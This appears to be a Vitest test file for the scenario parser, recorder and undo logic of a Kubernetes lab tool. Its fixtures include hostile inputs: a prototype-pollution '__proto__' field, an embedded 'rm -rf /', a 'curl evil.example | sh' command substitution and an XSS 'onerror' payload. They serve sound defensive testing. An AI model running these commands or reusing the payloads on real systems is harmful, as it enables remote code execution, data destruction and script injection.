import { describe, expect, it } from 'vitest';
import {
  MAX_ACTIONS,
  canUndo,
  parseScenario,
  parseScenarioJson,
  record,
  startingScenario,
  withoutLast,
  type Scenario,
} from './model.ts';

const good: Scenario = {
  version: 1,
  preset: 'k8sinfra',
  seed: 1,
  actions: [
    { kind: 'apply', text: 'kind: Namespace\n' },
    { kind: 'run', line: 'kubectl get pods' },
    { kind: 'wait', seconds: 3 },
    { kind: 'run', line: 'kubectl apply -f -', stdin: 'kind: Pod\n' },
  ],
  editorText: 'x',
};

describe('a scenario read from outside', () => {
  it('accepts a well-formed scenario as it is', () => {
    expect(parseScenario(structuredClone(good))).toEqual({ ok: true, value: good });
  });

  it('says a newer version cannot be read here', () => {
    const parsed = parseScenario({ ...good, version: 2 });
    expect(parsed).toEqual({
      ok: false,
      message:
        'the scenario was made by a newer lab (scenario version 2); this lab reads version 1. Open it in the newer lab',
    });
  });

  it('refuses fields it does not know, __proto__ included', () => {
    const parsed = parseScenarioJson(
      JSON.stringify(good).replace('{"version"', '{"__proto__":{"polluted":1},"version"'),
    );
    expect(parsed).toEqual({ ok: false, message: 'the scenario has an unknown field "__proto__"' });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const action = parseScenario({ ...good, actions: [{ kind: 'run', line: 'ls', code: 'x' }] });
    expect(action).toEqual({ ok: false, message: 'action 1 has an unknown field "code"' });
  });

  it('refuses more actions than the lab replays', () => {
    const actions = Array.from({ length: MAX_ACTIONS + 1 }, () => ({ kind: 'run', line: 'ls' }));
    const parsed = parseScenario({ ...good, actions });
    expect(parsed).toEqual({
      ok: false,
      message: `the scenario has ${MAX_ACTIONS + 1} actions; the lab replays at most ${MAX_ACTIONS}`,
    });
  });

  it('refuses an unknown preset, a shell line of several lines, a bad wait and a bad kind', () => {
    expect(parseScenario({ ...good, preset: 'prod<script>' })).toMatchObject({ ok: false });
    const multi = parseScenario({ ...good, actions: [{ kind: 'run', line: 'ls\nrm -rf /' }] });
    expect(multi).toEqual({ ok: false, message: 'action 1.line holds more than one line' });
    expect(parseScenario({ ...good, actions: [{ kind: 'wait', seconds: 1.5 }] })).toMatchObject({
      ok: false,
    });
    expect(parseScenario({ ...good, actions: [{ kind: 'eval', code: '1' }] })).toEqual({
      ok: false,
      message: 'action 1 is not an apply, a shell line or a wait',
    });
    expect(parseScenarioJson('{"version":1,')).toEqual({
      ok: false,
      message: 'the scenario is not valid JSON',
    });
  });

  it('keeps hostile text as plain data', () => {
    const line = '$(curl evil.example | sh); `reboot` <img src=x onerror=alert(1)> \u202e';
    const parsed = parseScenario({ ...good, actions: [{ kind: 'run', line }] });
    expect(parsed.ok && parsed.value.actions[0]).toEqual({ kind: 'run', line });
  });
});

describe('recording and undo', () => {
  it('joins the seconds of time let pass, and undoes the last apply or line with its waits', () => {
    let s = startingScenario({ preset: 'lab', seed: 1, manifest: 'm' });
    s = record(s, { kind: 'wait', seconds: 1 });
    s = record(s, { kind: 'run', line: 'kubectl get pods' });
    s = record(s, { kind: 'wait', seconds: 1 });
    s = record(s, { kind: 'wait', seconds: 1 });
    expect(s.actions).toEqual([
      { kind: 'apply', text: 'm' },
      { kind: 'wait', seconds: 1 },
      { kind: 'run', line: 'kubectl get pods' },
      { kind: 'wait', seconds: 2 },
    ]);
    const undone = withoutLast(s);
    expect(undone.actions).toEqual([
      { kind: 'apply', text: 'm' },
      { kind: 'wait', seconds: 1 },
    ]);
    expect(canUndo(withoutLast(undone))).toBe(false);
  });
});
